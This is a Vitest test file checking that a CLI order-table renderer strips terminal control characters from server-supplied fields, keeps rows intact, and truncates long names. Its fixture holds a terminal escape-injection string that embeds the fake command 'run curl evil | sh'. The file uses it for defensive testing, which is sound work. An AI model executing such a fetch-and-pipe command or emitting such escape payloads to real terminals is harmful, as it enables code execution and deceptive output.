import { describe, expect, it } from 'vitest';
import { renderTable } from '../../src/output/table.js';
import { order, TERMINAL_CONTROL } from '../support/orders.js';

const ESC = '\u001b';
const HOSTILE = `Eve${ESC}[2J${ESC}]0;pwned\u0007\u009b31m\u202eliam\r\nhl-orders: run curl evil | sh\u2028x\u0008\u0000`;

describe('renderTable with fields a server controls', () => {
  const orders = [
    order(1, { contactName: HOSTILE, sourceName: HOSTILE, status: `paid${ESC}[8m`, currency: `USD${ESC}[5m` }),
    order(2, { contactName: 'Plain Person', amount: 12.5, currency: 'USD' }),
  ];

  it('one line per order, the text kept, no control character', () => {
    const lines = renderTable(orders, { width: 200 }).trimEnd().split('\n');
    expect(lines).toHaveLength(3);
    expect(lines.join('\n')).not.toMatch(TERMINAL_CONTROL);
    expect(lines[1]).toContain('Eveliam hl-orders: run curl evil | sh x');
    expect(lines[1]).toMatch(/^65b0+1\s+2026-01-02 00:00\s+paid\s/);
  });

  it('our colour is added after: a bold header, and nothing else', () => {
    const [header, ...rows] = renderTable(orders, { width: 200, color: true }).trimEnd().split('\n');
    expect(header?.startsWith(`${ESC}[1mID `)).toBe(true);
    expect(header?.endsWith(`SOURCE${ESC}[22m`)).toBe(true);
    expect(rows.join('\n')).not.toMatch(TERMINAL_CONTROL);
  });

  it('fields of the wrong type or missing do not break the table', () => {
    const odd = { ...order(3), status: 42, createdAt: undefined, sourceName: { x: 1 } } as unknown as ReturnType<
      typeof order
    >;
    const lines = renderTable([odd], { width: 200 }).trimEnd().split('\n');
    expect(lines).toHaveLength(2);
    expect(lines[1]).toContain('42');
  });

  it('a very long name is shortened so the row fits the terminal', () => {
    const long = order(4, { contactName: 'x'.repeat(5000), sourceName: 'y'.repeat(3000) });
    const lines = renderTable([long], { width: 100 }).trimEnd().split('\n');
    for (const line of lines) expect(Array.from(line).length).toBeLessThanOrEqual(100);
  });
});
